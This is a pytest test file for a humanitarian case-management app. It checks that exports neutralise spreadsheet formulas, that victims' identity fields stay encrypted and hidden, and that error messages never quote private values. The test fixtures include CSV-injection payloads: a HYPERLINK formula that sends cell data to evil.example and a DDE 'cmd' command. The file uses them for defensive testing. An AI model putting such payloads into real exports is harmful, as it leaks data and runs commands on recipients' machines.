"""Issue 15, the case side: a cursor out of range is a 400; unknown imported fields are
identity (encrypted, never shown without victim.identity.view); row problems of identity
fields never quote the value; exports neutralise formulas."""

from __future__ import annotations

from typing import Any

import pytest

from vigie.core.actor import Actor
from vigie.testing import World


@pytest.mark.parametrize(
    "cursor", ["99999999999999999999999_1", "1_99999999999999999999999", "-999999999999999999_1"]
)
def test_a_cursor_out_of_range_is_a_400(api: Any, world: World, cursor: str) -> None:
    res = api(world.users["analyst"]).get(f"/api/cases/?after={cursor}")
    assert res.status_code == 400, res.content
    assert res.json()["code"] == "invalid" and "after" in res.json()["title"]


FORMULAS = {
    "area": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "summary": "+1+cmd|' /C calc'!A0",
    "reference": "=SUM(1+1)",
    "source_record_id": "-2+3",
}


def _formula_case(world: World) -> Any:
    import copy

    from vigie.cases import services
    from vigie.cases.tests.conftest import RECORD

    record = copy.deepcopy(RECORD)
    record.update(FORMULAS)
    record["victims"][0]["given_name"] = "\tTab"
    record["victims"][0]["other_names"] = "@alias"
    return services.save_record(Actor(user=world.users["case_manager"]), world.own, record)


def _cells(path: Any) -> list[str]:
    import csv

    if path.suffix == ".xlsx":
        import openpyxl

        book = openpyxl.load_workbook(path)
        out = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"a formula in {cell.coordinate}: {cell.value}"
                    out.append("" if cell.value is None else str(cell.value))
        return out
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "htcds-csv", "htcds-xlsx", "ctdc"])
def test_exports_carry_no_formula(world: World, tmp_path: Any, fmt: str) -> None:
    from vigie.cases.interchange import exporter

    _formula_case(world)
    suffix = ".xlsx" if fmt.endswith("xlsx") else ".csv"
    path = tmp_path / f"out{suffix}"
    assert exporter.export(world.users["case_manager"], fmt, path, identity=True) == 1
    cells = _cells(path)
    assert cells
    for cell in cells:
        if suffix == ".csv" and cell:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell
    if suffix == ".csv" and fmt != "ctdc":  # CTDC carries codes only
        assert "'=SUM(1+1)" in cells or "'-2+3" in cells  # neutralised, not dropped
    if fmt in ("csv", "xlsx"):
        assert {"'=SUM(1+1)", "=SUM(1+1)"} & set(cells)


def test_the_neutraliser_follows_owasp() -> None:
    from vigie.core.cells import neutralise

    for bad in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=", "-"):
        assert neutralise(bad) == "'" + bad
    for fine in ("-99", "+3.5", "-0.25e3", "Sinjar", "", "a=b", 5, None, -3):
        assert neutralise(fine) == fine


MARK = "Qzvxmarker"


def _start_import(world: World, path: Any, role: str = "case_manager", **params: Any) -> Any:
    from vigie.core import jobs
    from vigie.core.models import Job

    user = world.users[role]
    job = jobs.start(
        "cases.import",
        user=user,
        organisation=world.own,
        params={"path": str(path), "organisation_id": world.own.pk, "user_id": user.pk, **params},
    )
    return jobs.run_now(Job.objects.get(pk=job.pk))


def test_row_problems_of_identity_fields_never_quote_the_value(world: World, tmp_path: Any) -> None:
    import json

    from vigie.core.models import Job

    items = [
        {
            "cas_CaseNumber": "H-1",
            "prs_FirstName": f"{MARK}first",
            "prs_Birthdate": "2003-13-45",
            "prs_Gender": "Feminine",
        },
        {"cas_CaseNumber": "H-2", f"xyz_{MARK}": f"{MARK}unknown"},
    ]
    path = tmp_path / "h.json"
    path.write_text(json.dumps(items), "utf-8")
    for role in ("case_manager", "analyst"):
        job = _start_import(world, path, role=role, format="htcds")
        assert job.status == Job.Status.FAILED
        text = json.dumps(job.result) + (job.error or "") + (job.message or "")
        assert "2003-13-45" not in text and f"{MARK}first" not in text, text
        assert f"{MARK}unknown" not in text
        assert "date_of_birth" in json.dumps(job.result["problems"])  # row, column and why


def test_api_problems_of_identity_fields_never_quote_the_value(api: Any, world: World) -> None:
    import copy

    from vigie.cases.tests.conftest import RECORD

    record = copy.deepcopy(RECORD)
    record["victims"][0]["date_of_birth"] = f"{MARK}-not-a-date"
    record["victims"][0][f"{MARK}field"] = f"{MARK}value"
    res = api(world.users["field_officer"]).post("/api/cases/", record, format="json")
    assert res.status_code == 400
    body = res.content.decode()
    assert "date_of_birth" in body and f"{MARK}-not-a-date" not in body
    assert f"{MARK}value" not in body


def test_unknown_imported_fields_are_identity(world: World, tmp_path: Any, api: Any) -> None:
    import json

    from django.db import connection

    from vigie.cases.interchange import exporter
    from vigie.cases.models import Case
    from vigie.core.models import Job, Membership, OrganisationShare, User

    items = [
        {
            "cas_CaseNumber": "H-9",
            "prs_Gender": "Feminine",
            "vic_MotherName": f"{MARK}mother",
            "vic_NationalIDOfFather": f"{MARK}-ID-77",
        }
    ]
    path = tmp_path / "h.json"
    path.write_text(json.dumps(items), "utf-8")
    job = _start_import(world, path, format="htcds")
    assert job.status == Job.Status.SUCCEEDED, job.error
    with connection.cursor() as cursor:
        cursor.execute("SELECT * FROM cases_case")
        assert MARK not in str(cursor.fetchall())
    case = Case.objects.get()
    # a partner organisation's analyst, through a share without identities
    partner = User.objects.create(username="partner-analyst")
    Membership.objects.create(user=partner, organisation=world.other, role="analyst")
    OrganisationShare.objects.create(owner=world.own, partner=world.other, scope="case")
    for user in (partner, world.users["analyst"]):
        for url in (f"/api/cases/{case.uuid}/", f"/api/cases/{case.uuid}/?include=identity"):
            res = api(user).get(url)
            assert res.status_code == 200 and MARK not in res.content.decode()
    # shown with victim.identity.view on request, and exported with victim.identity.export
    shown = api(world.users["case_manager"]).get(f"/api/cases/{case.uuid}/?include=identity")
    assert f"{MARK}mother" in shown.content.decode()
    out = tmp_path / "out.json"
    exporter.export(world.users["case_manager"], "htcds", out, identity=True)
    assert json.loads(out.read_text("utf-8"))["records"][0]["vic_MotherName"] == f"{MARK}mother"
    exporter.export(world.users["case_manager"], "htcds", out, identity=False)
    assert MARK not in out.read_text("utf-8")
    # an analyst may not import them (identity needs the identity permission)
    Case.objects.all().delete()
    job = _start_import(world, path, role="analyst", format="htcds")
    assert job.status == Job.Status.FAILED and MARK not in json.dumps(job.result)


def test_import_uploads_are_encrypted_at_rest(
    web: Any, world: World, django_capture_on_commit_callbacks: Any
) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    from vigie.cases.interchange import uploads
    from vigie.cases.models import Victim

    content = (
        "case.reference,victim.given_name,victim.sex,case.source_type,case.conflict_situation\n"
        f"R-1,{MARK}name,female,case_management,iraq\n"
    ).encode()
    client = web(world.users["case_manager"])
    upload = SimpleUploadedFile("people.csv", content, content_type="text/csv")
    form = {"file": upload, "organisation": "own-org", "format": "vigie"}
    page = client.post("/import/cases/", form)
    assert page.status_code == 302, page.content.decode()[:2000]
    stored = [p for p in uploads.upload_dir().iterdir() if p.is_file()]
    assert stored and all(MARK.encode() not in p.read_bytes() for p in stored)
    preview = client.get(page["Location"])
    assert preview.status_code == 200 and "R-1" in preview.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        check = client.post(page["Location"], {"action": "check"})
    assert check.status_code == 302, check.content.decode()[-3000:]
    from vigie.core.models import Job

    job = Job.objects.get(kind="cases.import")
    assert job.status == Job.Status.SUCCEEDED, job.error
    assert Victim.objects.count() == 0  # a check writes nothing; the file was read
    assert job.result["rows"] == 1
